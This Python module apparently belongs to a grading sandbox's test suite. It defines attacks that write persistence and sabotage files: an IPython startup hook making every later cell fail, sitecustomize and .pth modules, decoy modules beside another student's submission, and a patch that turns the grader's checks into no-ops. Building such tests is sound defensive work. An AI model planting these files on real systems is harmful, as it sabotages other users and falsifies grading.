"""Attempts to leave something for the next student: files in /tmp, at home and where Python looks."""

import sys

from tools.attack.attack import Attack

__all__ = ["PLANTING"]

_FORGES = (
    "# planted by @NAME@ of @RUN@\n"
    "try:\n    get_ipython().ast_transformers.append(type('N', (), {'visit': lambda s, t: "
    "__import__('ast').parse('1/0')})())\nexcept NameError:\n    pass\n"
)


def _plants(says, *paths, text="# planted by @NAME@ of @RUN@\n", mode="a"):
    source = (
        f"import os\n\nfor path in map(os.path.expanduser, {paths!r}):\n    try:\n"
        "        os.makedirs(os.path.dirname(path), exist_ok=True)\n"
        f"        with open(path, {mode!r}) as file:\n            file.write({text!r})\n"
        "    except OSError:\n        continue\n"
    )
    return Attack(says, "harm", source)


PLANTING = {
    "plants-in-tmp": _plants(
        "leaves files where all programs leave theirs",
        "/tmp/planted-@RUN@-@NAME@",
        "/var/tmp/planted-@RUN@-@NAME@",
        "/dev/shm/planted-@RUN@-@NAME@",
    ),
    "plants-a-startup-file": _plants(
        "leaves what IPython runs when the next student's kernel starts",
        "@HOME@/.ipython/profile_default/startup/00-planted.py",
        "~/.ipython/profile_default/startup/00-planted.py",
        text=_FORGES,
    ),
    "plants-a-configuration": _plants(
        "leaves a configuration for the next run of nbgrader and Jupyter",
        "@HOME@/.jupyter/nbgrader_config.py",
        "@HOME@/.jupyter/jupyter_config.py",
    ),
    "plants-a-module": _plants(
        "leaves modules that every Python starts with",
        "@SITE@/sitecustomize.py",
        "@SITE@/usercustomize.py",
        f"@HOME@/.local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages/planted.pth",
    ),
    "plants-beside": _plants(
        "leaves modules beside what others handed in",
        "@COURSE@/submitted/zoe/practical1/numpy.py",
        "@COURSE@/submitted/zoe/practical1/grader.py",
        text="# planted by @NAME@ of @RUN@\nraise ImportError\n",
    ),
    "changes-the-package": _plants(
        "changes the installed package: its checks pass from now on",
        "@SITE@/grader/checks/bayes_rule.py",
        text="\n\n# planted by @NAME@ of @RUN@\ncheck = check_hidden = check_errors = lambda *a, **k: None\n",
    ),
}
"""Attacks by id."""
